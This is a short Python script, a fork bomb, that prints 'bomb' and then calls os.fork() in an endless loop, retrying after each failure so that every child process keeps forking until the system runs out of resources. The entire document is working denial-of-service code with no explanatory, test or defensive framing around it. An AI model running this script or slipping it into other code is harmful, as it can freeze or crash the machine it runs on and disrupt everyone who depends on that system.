"""Forks until the system refuses, in every process again."""
import os
import time

print("bomb", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
